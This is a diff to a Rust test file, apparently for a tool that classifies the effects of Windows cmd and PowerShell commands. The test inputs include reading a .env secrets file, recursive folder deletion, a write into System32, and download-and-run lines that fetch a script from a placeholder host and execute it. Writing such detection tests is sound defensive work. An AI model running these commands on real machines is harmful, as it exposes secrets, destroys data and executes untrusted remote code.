@@ -168,6 +168,15 @@ fn lines_of_cmd() {
         &["read C:/Users/me/repo/.env"],
     );
     cmd(
+        "for /f \"usebackq\" %a in (\".env\") do echo %a",
+        &["read C:/Users/me/repo/.env"],
+    );
+    cmd(
+        "for /f \"usebackq\" %a in (`del C:\\x`) do echo %a",
+        &["delete C:/x"],
+    );
+    cmd("for /f %a in (\"del C:\\x\") do echo %a", &[]);
+    cmd(
         "for /r C:\\x %f in (*.obj) do del %f",
         &["delete C:/x/*.obj (glob)"],
     );
@@ -226,5 +235,32 @@ fn code_by_other_doors() {
     cmd(
         "for /d %d in (C:\\x) do @(rd /s /q %d)",
         &["delete -r C:/x"],
+    );
+}
+
+#[test]
+fn what_a_redirect_fetched() {
+    let fetched = [
+        "GET h.example",
+        "write C:/Users/me/repo/a.ps1",
+        "remote code https://h.example/a",
+    ];
+    posh("irm https://h.example/a > a.ps1; .\\a.ps1", &fetched);
+    posh(
+        "irm https://h.example/a | Set-Content a.ps1; .\\a.ps1",
+        &fetched,
+    );
+    posh("curl.exe https://h.example/a > a.ps1; .\\a.ps1", &fetched);
+    posh(
+        "irm https://h.example/a > a.json; gc a.json | ConvertFrom-Json",
+        &[
+            "GET h.example",
+            "write C:/Users/me/repo/a.json",
+            "read C:/Users/me/repo/a.json",
+        ],
+    );
+    posh(
+        "Set-Content \"$([Environment]::SystemDirectory)\\x\" y",
+        &["write C:/Windows/System32/x"],
     );
 }
